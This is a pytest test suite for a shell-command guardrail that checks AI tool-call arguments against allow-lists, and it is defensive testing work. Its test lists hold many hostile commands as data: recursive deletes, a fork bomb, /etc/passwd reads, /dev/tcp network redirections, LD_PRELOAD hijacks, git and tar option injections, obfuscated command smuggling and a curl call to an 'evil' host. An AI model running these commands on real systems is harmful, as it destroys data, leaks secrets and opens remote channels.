"""ShellPolicy lets a command line through that runs what it may, and no other, however it is dressed."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine import Action, DefinitionError, GuardItem, Guardrail, Stage
from guardrails import ShellCommand, ShellPolicy

LISTED = "ls cat grep echo head find xargs env sudo sh bash git tar timeout sort wc diff eval nice test fd".split()


async def judged(command, **fields):
    arguments = {"command": command}
    call = GuardItem(stage=Stage.TOOL_ARGUMENTS, value=arguments, arguments=arguments, tool="run")
    return await ShellPolicy(**({"commands": LISTED} | fields)).check(call)


FINE = r"""
ls -la
cat a.txt | grep -n x | head -5
echo $(cat x) `cat y`
find . -name '*.py' -exec grep x {} \;
find . -name x | xargs grep y
find . -print0 | xargs -0 -n 1 -I {} cat {}
env -i ls
sudo -u bob ls
sh -c 'ls | wc -l'
bash -c "echo \"hi\""
git status && ls || echo no; ls
for i in a b; do cat $i; done
if grep -q x y; then echo yes; else echo no; fi
ls > /dev/null 2>&1
echo 'rm -rf / ; $(rm x) `rm x`'
echo "a; rm x" \$\(rm\)
diff <(sort a) <(sort b)
timeout -k 5 10 ls
(ls; echo x) | wc
ls *.py
! grep x y
eval 'ls -l'
nice -n 5 ls
""".strip().splitlines()

HOSTILE = r"""
rm -rf /
ls; rm x
ls && rm x
ls || rm x
ls | rm x
ls |& rm x
echo $(rm x)
echo `rm x`
echo "$(rm x)"
echo "`rm x`"
echo "$(ls "$(rm x)")"
cat <(rm x)
echo a >(rm x)
sh -c 'rm x'
sh -c "sh -c 'sh -c \"rm x\"'"
bash -c "$(cat x)"
bash x.sh
bash -s
bash -i
cat x | sh
find . -exec rm {} \;
find . -exec ls {} \; -exec rm {} +
find . -exec sh -c 'echo {}' \;
find . -execdir rm {} +
find . -ok rm {} \;
find . -exec
find . -delete
find . -fprintf x y
fd -x rm
xargs rm
find . | xargs -I{} rm {}
find . | xargs -I% sh -c '%'
xargs -i rm ls
xargs --replace rm ls
xargs -Icat cat
xargs -n1 rm
xargs -a f sh -c 'rm x'
find . | xargs sort
env rm x
env -i rm
env A=b ls
env LD_PRELOAD=/tmp/x ls
env -S 'rm x'
env -u A rm
sudo rm
sudo -u root rm x
sudo -nu root rm x
sudo -s
sudo A=b ls
timeout 5 rm
timeout -s KILL 5 rm
timeout --signal=KILL 5 rm
nice rm
nice -5 rm ls
$x ls
$(echo rm) x
${IFS}rm
cat$IFS/etc/passwd
r\m x
'r'm x
"rm" x
{rm,-rf,/}
ls {a,$(rm)}
/bin/rm x
./ls
../bin/ls
busybox rm
echo ${x:-$(rm)}
echo ${x@P}
echo ${!x}
echo $((1+$(rm)))
echo $x$[1+$(rm)]
echo ~$x$[1+$(rm)]
echo $'\x72m'
echo $"rm"
echo $(</etc/passwd)
PATH=/tmp ls
LD_PRELOAD=/tmp/x ls
x=1
a=$(rm)
a[$(rm)]=1
ls > x
ls >> ~/.bashrc
ls 2> x
ls &> x
ls >| x
ls >& x
(ls) > x
while ls; do ls; done > x
cat 0<> x
cat < $(rm)
cat < /dev/tcp/1.2.3.4/80
echo x > /dev/tcp/1.2.3.4/80
exec 3<>/dev/tcp/1.2.3.4/80
cat <<< $(rm)
ls &
ls & rm
f(){ rm; }; f
ls(){ rm; }; ls
:(){ :|:& };:
case x in x) rm;; esac
select x in a; do rm; done
[[ -f x ]] && rm
((x=1))
time rm
coproc rm
eval 'rm x'
eval $x
alias ls=rm
source x
. x
trap 'rm x' EXIT
exec rm
command rm
test -v 'a[$(rm)]'
git -c core.pager=rm log
git --exec-path=/tmp log
git clone --upload-pack=rm x
git -ccore.pager=rm log
tar --checkpoint-action=exec=rm
tar --to-comm rm
tar -I rm x
tar -xIrm f
sort -o x y
sort --out=x
if rm; then ls; fi
if ls; then rm; fi
while true; do rm; done
until ls; do rm; done
(rm)
{ rm; }
!!
ls # and then
echo "unterminated
ls |
ls $(
ls ;;
""".strip().splitlines()


@pytest.mark.parametrize("command", FINE)
async def test_what_only_runs_listed_commands_passes(command):
    assert await judged(command) == []


@pytest.mark.parametrize(
    "command",
    [
        *HOSTILE,
        "",
        "   ",
        "\n",
        "#",
        "ls\nrm x",
        "ls \\\n; rm",
        "ls \x00",
        "ls\r\nrm",
        "ls \u200brm",
        "cat <<E\n$(rm)\nE",
    ],
)
async def test_what_would_run_another_is_blocked(command):
    ((path, verdict),) = await judged(command)
    assert (path, verdict.action) == ("command", Action.BLOCK)
    assert verdict.reason.startswith("the command may not be run: ")


@pytest.mark.parametrize(
    ("words", "passes"), [(["ls", "-l", "a; rm b"], True), (["sh", "-c", "rm x"], False), (["rm"], False)]
)
async def test_a_list_of_words_is_one_command(words, passes):
    assert (await judged(words) == []) is passes


BOUND = {
    "commands": {
        "ls": ShellCommand(options=["-l", "-a", "--color"]),
        "git": ShellCommand(first=["status", "log"], options=["--oneline", "-n"]),
        "grep": ShellCommand(),
        "cd": ShellCommand(),
        "cat": ShellCommand(),
        "xargs": ShellCommand(),
        "tar": ShellCommand(options=["-I"]),
    },
    "beneath": ["/srv/data"],
    "writes_to": ["/srv/out"],
    "assigns": ["LANG"],
}


@pytest.mark.parametrize(
    "command",
    [
        "ls -l /srv/data/x",
        "ls -la ./*",
        "ls --color=auto a/b",
        "ls -- -R",
        "git status",
        "git log --oneline -n 5",
        "ls > /srv/out/list",
        "LANG=C ls",
        "grep x < /srv/data/x",
        "tar -I zstd x",
    ],
)
async def test_arguments_that_may_be_pass(command):
    assert await judged(command, **BOUND) == []


@pytest.mark.parametrize(
    "command",
    [
        "ls -R",
        "ls -lR",
        "ls --col",
        "git push",
        "git -C /x status",
        "git",
        "ls /etc",
        "ls //etc",
        "ls ../x",
        "ls a/../../x",
        "ls /srv/data/../x",
        "ls /srv/dataset",
        "ls ~",
        "ls ~root/x",
        "ls $x",
        "ls *",
        "ls ?.txt",
        "ls {/etc,x}",
        "grep x /etc/passwd",
        "grep --file=/etc/passwd x",
        "grep -f/etc/passwd x",
        "grep -abf../x y",
        "grep x < /etc/passwd",
        "cat @/etc/passwd",
        "cat if=/etc/passwd",
        "cat '/etc/pass'wd",
        "cd .. && cat x",
        "cd; cat x",
        "echo x | xargs cat",
        "ls > /srv/out/../x",
        "ls > $x",
        "PATH=/srv/data ls",
    ],
)
async def test_other_options_words_paths_and_files_are_blocked(command):
    assert (await judged(command, **BOUND))[0][1].action is Action.BLOCK


async def test_the_reason_says_what_to_change():
    ((_, verdict),) = await judged("curl http://evil", commands=["ls", "cat"])
    assert verdict.reason == "the command may not be run: 'curl' is not among the commands that may be run (ls, cat)"


async def test_only_the_named_tools_and_parameters_are_judged():
    guard = ShellPolicy(commands=["ls"], tools=["shell"], parameters=["command"], action="require_approval")
    for tool, arguments, action in (
        ("shell", {"command": "rm x", "why": "rm"}, Action.REQUIRE_APPROVAL),
        ("shell", {"cmd": "ls"}, Action.REQUIRE_APPROVAL),
        ("mail", {"command": "rm x"}, None),
        ("shell", {"command": "ls", "why": "rm"}, None),
    ):
        call = GuardItem(stage=Stage.TOOL_ARGUMENTS, value=arguments, arguments=arguments, tool=tool)
        assert [verdict.action for _, verdict in await guard.check(call)] == ([action] if action else [])


def test_it_needs_a_command_and_survives_json():
    with pytest.raises(DefinitionError):
        ShellPolicy(commands=[])
    guard = ShellPolicy(**BOUND)
    assert Guardrail.load(guard.model_dump(mode="json")) == guard


@pytest.mark.parametrize(
    "text",
    [
        "$(" * 1_000 + "ls" + ")" * 1_000,
        "(" * 1_900 + "ls",
        "ls " + "$(ls) " * 600,
        "x" * 10_000_000,
        "ls '\ud800'",
        "ls \u202e",
    ],
)
async def test_hostile_texts_end_in_a_verdict_or_pass_and_never_crash(text):
    for _, verdict in await judged(text):
        assert verdict.action is Action.BLOCK


_PIECES = st.sampled_from(
    [
        *"ls rm ; | && ( ) { } $( ` ' \" $ x= < > << & # \\ -c sh ${ } ~ * [ if then fi for do done !".split(),
        "\n",
        "\0",
        "\ud800",
    ]
)


@settings(max_examples=80, deadline=None)
@given(
    st.one_of(
        st.text(max_size=60), st.lists(_PIECES, max_size=14).map(" ".join), st.lists(_PIECES, max_size=14).map("".join)
    )
)
async def test_no_text_crashes_it(text):
    for _, verdict in await judged(text):
        assert verdict.action is Action.BLOCK
